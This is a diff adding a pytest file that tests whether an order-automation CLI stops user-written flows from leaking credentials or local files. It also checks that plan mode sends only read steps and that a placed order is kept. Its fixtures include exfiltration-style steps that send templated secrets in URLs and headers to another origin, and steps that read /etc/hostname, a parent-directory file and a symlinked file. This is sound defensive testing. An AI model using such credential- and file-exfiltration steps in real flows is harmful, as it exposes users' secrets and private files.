@@ -1,0 +1,241 @@
+"""A spec that names its own flow, run by ``plan`` and ``apply`` as real processes against a hostile server.
+
+The flow is the spec author's: it may try to send the profile's credential or any file
+elsewhere, and it may fail after the order was placed. What reaches which host, and what
+the user is told, is checked on the server and in the output.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+ROOT = Path(__file__).resolve().parents[2]
+USER = "orders-bot"
+PASSWORD = "pr0d-Pa55w0rd-7f3e"
+
+HEAD = """apiVersion: orderspec/v1
+kind: Flow
+name: own
+base_url: "{{ target.base_url }}"
+"""
+
+TAIL = """discard:
+  what: basket
+  id: vars.basket
+  request: {method: DELETE, url: "/ok/%(tag)s-discard/{{ vars.basket }}"}
+outputs: {number: vars.number}
+contract: {order_number: number}
+"""
+
+SPEC = """apiVersion: orderspec/v1
+kind: Order
+metadata:
+  name: own-flow
+target:
+  flow: own.flow.yaml
+  profile: prod
+customer: {name: Ada Lovelace, email: ada@example.com}
+addresses:
+  shipping: {name: Ada Lovelace, street: Main Street 1, zip: "12345", city: Springfield, country: US}
+items:
+  - file: models/bracket.stl
+    material: PLA
+    quantity: 1
+"""
+
+
+def _project(tmp_path: Path, base_url: str, steps: str, name: str = "order.yaml") -> Path:
+    """A spec folder with its own flow (``steps`` after the head, ``%(tag)s`` and ``%(port)s`` filled in) and a basic-auth profile."""
+    folder = tmp_path / "specs"
+    if not folder.exists():
+        shutil.copytree(ROOT / "specs" / "examples" / "models", folder / "models")
+        (folder / "orderspec.yaml").write_text(
+            f"profiles:\n  prod:\n    base_url: {base_url}\n    auth: {{kind: basic, username_env: PROD_USER, env: PROD_PASSWORD}}\n",
+            encoding="utf-8",
+        )
+    fill = {"tag": tmp_path.name, "port": base_url.rsplit(":", 1)[1]}
+    flow_name = name.replace(".yaml", ".flow.yaml").replace("order.flow", "own.flow")
+    (folder / flow_name).write_text(HEAD + steps % fill + TAIL % fill, encoding="utf-8")
+    spec = SPEC.replace("own.flow.yaml", flow_name).replace("name: own-flow", f"name: {name.removesuffix('.yaml')}")
+    (folder / name).write_text(spec, encoding="utf-8")
+    return folder / name
+
+
+def _orderspec(cwd: Path, *args: str) -> subprocess.CompletedProcess[str]:
+    env = {**os.environ, "PROD_USER": USER, "PROD_PASSWORD": PASSWORD, "PROD_TOKEN": PASSWORD}
+    done = subprocess.run(
+        [sys.executable, "-m", "orderspec", *args], cwd=cwd, env=env, stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=120
+    )
+    assert "Traceback" not in done.stderr and done.returncode != 70, done.stderr
+    assert PASSWORD not in done.stdout + done.stderr
+    return done
+
+
+def _seen(hostile, tag: str) -> list:
+    return [seen for seen in hostile.seen if tag in seen.path]
+
+
+# -- item: a credential goes to the profile's own origin, never into a template ----------------
+
+
+def test_a_flow_run_by_plan_cannot_read_the_credential(hostile, tmp_path: Path) -> None:
+    spec = _project(
+        tmp_path,
+        hostile.base_url,
+        "steps:\n"
+        "  - name: steal\n"
+        "    request: {method: GET, url: 'http://localhost:%(port)s/ok/%(tag)s-steal?p={{ secrets.secret }}&u={{ secrets.username }}'}\n"
+        "  - name: order\n    effect: place\n    request: {method: POST, url: /ok/%(tag)s-order}\n    capture: {number: response.body.number}\n",
+    )
+    done = _orderspec(tmp_path, "plan", str(spec))
+    assert done.returncode == 1
+    assert "step 'steal'" in done.stderr and "secrets.secret is undefined" in done.stderr
+    assert _seen(hostile, tmp_path.name) == []
+
+
+def test_the_profiles_credential_reaches_its_origin_and_no_other(hostile, tmp_path: Path) -> None:
+    """localhost is another origin than the profile's 127.0.0.1, though the same server answers."""
+    spec = _project(
+        tmp_path,
+        hostile.base_url,
+        "steps:\n"
+        "  - name: own\n    request: {method: GET, url: /ok/%(tag)s-own}\n"
+        "  - name: elsewhere\n    request: {method: GET, url: 'http://localhost:%(port)s/ok/%(tag)s-elsewhere'}\n"
+        "  - name: order\n    effect: place\n    request: {method: POST, url: /ok/%(tag)s-order}\n    capture: {number: response.body.number}\n",
+    )
+    done = _orderspec(tmp_path, "plan", str(spec))
+    assert done.returncode == 0, done.stderr
+    own, elsewhere = _seen(hostile, tmp_path.name)
+    assert own.path.endswith("-own") and own.headers["Authorization"].startswith("Basic ")
+    assert elsewhere.path.endswith("-elsewhere") and elsewhere.headers["Host"].startswith("localhost:")
+    assert "Authorization" not in elsewhere.headers and PASSWORD not in repr(elsewhere)
+
+
+@pytest.mark.parametrize("written", ["/etc/hostname", "../outside.txt", "models/link.stl"])
+def test_a_flow_run_by_plan_sends_no_file_from_outside_the_folders(hostile, tmp_path: Path, written: str) -> None:
+    (tmp_path / "outside.txt").write_text("private", encoding="utf-8")
+    spec = _project(
+        tmp_path,
+        hostile.base_url,
+        "steps:\n"
+        f"  - name: leak\n    request: {{method: GET, url: /ok/%(tag)s-leak, content: {{path: '{written}'}}}}\n"
+        "  - name: order\n    effect: place\n    request: {method: POST, url: /ok/%(tag)s-order}\n    capture: {number: response.body.number}\n",
+    )
+    (spec.parent / "models" / "link.stl").symlink_to(tmp_path / "outside.txt")
+    done = _orderspec(tmp_path, "plan", str(spec))
+    assert done.returncode == 1
+    assert "step 'leak'" in done.stderr and "outside the folders a flow may send files from" in done.stderr
+    assert _seen(hostile, tmp_path.name) == []
+
+
+def test_orderspec_run_keeps_secrets_to_the_origin_of_its_base_url(hostile, tmp_path: Path) -> None:
+    port = hostile.base_url.rsplit(":", 1)[1]
+    flow = tmp_path / "run.flow.yaml"
+    flow.write_text(
+        HEAD + f"steps:\n  - name: steal\n    request: {{method: GET, url: 'http://localhost:{port}/ok/{tmp_path.name}-steal', "
+        "headers: {X-Key: '{{ secrets.token }}'}}\n",
+        encoding="utf-8",
+    )
+    done = _orderspec(tmp_path, "run", str(flow), "--secret", "token=PROD_TOKEN", "--base-url", hostile.base_url)
+    assert done.returncode == 1
+    assert f"secrets are sent only to {hostile.base_url}" in done.stderr
+    assert _seen(hostile, tmp_path.name) == []
+
+
+# -- item: plan sends read steps only; a POST without an effect creates -------------------------
+
+ALL_EFFECTS = (
+    "steps:\n"
+    "  - name: look\n    request: {method: GET, url: /ok/%(tag)s-look}\n"
+    "  - name: basket\n    request: {method: POST, url: /ok/%(tag)s-basket}\n    capture: {basket: response.body.id}\n"
+    "  - name: note\n    effect: write\n    request: {method: PUT, url: '/ok/%(tag)s-note/{{ vars.basket }}'}\n"
+    "  - name: order\n    effect: place\n    request: {method: POST, url: /ok/%(tag)s-order}\n    capture: {number: response.body.number}\n"
+)
+
+
+def test_plan_sends_read_steps_only(hostile, tmp_path: Path) -> None:
+    spec = _project(tmp_path, hostile.base_url, ALL_EFFECTS)
+    done = _orderspec(tmp_path, "plan", "--format", "json", str(spec))
+    assert done.returncode == 0, done.stderr
+    assert [(seen.method, seen.path.rsplit("-", 1)[1]) for seen in _seen(hostile, tmp_path.name)] == [("GET", "look")]
+    assert json.loads(done.stdout)["placed"] == 0
+
+
+def test_plan_quote_goes_up_to_the_place_step_and_deletes_the_draft(hostile, tmp_path: Path) -> None:
+    spec = _project(tmp_path, hostile.base_url, ALL_EFFECTS)
+    done = _orderspec(tmp_path, "plan", "--quote", str(spec))
+    assert done.returncode == 0, done.stderr
+    sent = [(seen.method, seen.path.split(f"{tmp_path.name}-")[1]) for seen in _seen(hostile, tmp_path.name)]
+    assert sent == [("GET", "look"), ("POST", "basket"), ("PUT", "note/1"), ("DELETE", "discard/1")]
+
+
+# -- item: a placed order stays placed, whatever fails after it ---------------------------------
+
+
+@pytest.mark.parametrize(
+    ("later", "message"),
+    [
+        ("request: {method: GET, url: /echo/500}", "answered 500"),
+        ("request: {method: GET, url: '/deep?depth=100000'}\n    capture: {deep: response.body}", "JSON nested too deeply"),
+        ("request: {method: GET, url: '/ok/{{ vars.nothing }}'}", "vars.nothing is undefined"),
+        ("request: {method: GET, url: '/drip?bytes=100&every=0.1'}", "no complete answer within 1 s"),
+    ],
+)
+def test_a_failure_after_the_order_was_placed_is_a_warning_not_a_discard(hostile, tmp_path: Path, later: str, message: str) -> None:
+    steps = (
+        "limits: {request_seconds: 1}\n"
+        "steps:\n"
+        "  - name: basket\n    request: {method: POST, url: /ok/%(tag)s-basket}\n    capture: {basket: response.body.id}\n"
+        "  - name: order\n    effect: place\n    request: {method: POST, url: /ok/%(tag)s-order}\n    capture: {number: response.body.number}\n"
+        f"  - name: confirm\n    {later}\n"
+    )
+    spec = _project(tmp_path, hostile.base_url, steps)
+    done = _orderspec(tmp_path, "apply", "--yes", "--format", "json", str(spec))
+    assert done.returncode == 0, done.stderr
+    [placed] = json.loads(done.stdout)["placed"]
+    assert placed["order_number"] == "N-1"
+    [warning] = placed["warnings"]
+    assert "step 'confirm'" in warning and message in warning
+    assert [seen.method for seen in _seen(hostile, tmp_path.name)] == ["POST", "POST"]  # no DELETE of the basket
+    again = _orderspec(tmp_path, "apply", "--yes", str(spec))
+    assert again.returncode == 0, again.stderr
+    assert len(_seen(hostile, f"{tmp_path.name}-order")) == 1  # the state holds it as placed: never sent twice
+
+
+def test_the_warning_is_shown_with_the_placed_order(hostile, tmp_path: Path) -> None:
+    steps = (
+        "steps:\n"
+        "  - name: order\n    effect: place\n    request: {method: POST, url: /ok/%(tag)s-order}\n    capture: {number: response.body.number}\n"
+        "  - name: confirm\n    request: {method: GET, url: /echo/500}\n"
+    )
+    spec = _project(tmp_path, hostile.base_url, steps)
+    done = _orderspec(tmp_path, "apply", "--yes", str(spec))
+    assert done.returncode == 0, done.stderr
+    placed = done.stdout.index("placed order: order N-1")
+    assert placed < done.stdout.index("warning: after placing:") and "step 'confirm'" in done.stdout
+    assert "1 order placed" in done.stdout + done.stderr
+
+
+def test_without_state_a_failure_after_placing_deletes_nothing(hostile, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """``apply_specs`` without a state store: the run itself must not discard what the order holds."""
+    from orderspec.orders import apply_specs
+
+    steps = (
+        "steps:\n"
+        "  - name: basket\n    request: {method: POST, url: /ok/%(tag)s-basket}\n    capture: {basket: response.body.id}\n"
+        "  - name: order\n    effect: place\n    request: {method: POST, url: /ok/%(tag)s-order}\n    capture: {number: response.body.number}\n"
+        "  - name: confirm\n    request: {method: GET, url: /echo/500}\n"
+    )
+    spec = _project(tmp_path, hostile.base_url, steps)
+    monkeypatch.setenv("PROD_USER", USER)
+    monkeypatch.setenv("PROD_PASSWORD", PASSWORD)
+    [placed] = apply_specs([spec], profiles_file=spec.parent / "orderspec.yaml")
+    assert placed.order_number == "N-1" and "step 'confirm'" in placed.warnings[0]
+    assert [seen.method for seen in _seen(hostile, tmp_path.name)] == ["POST", "POST"]
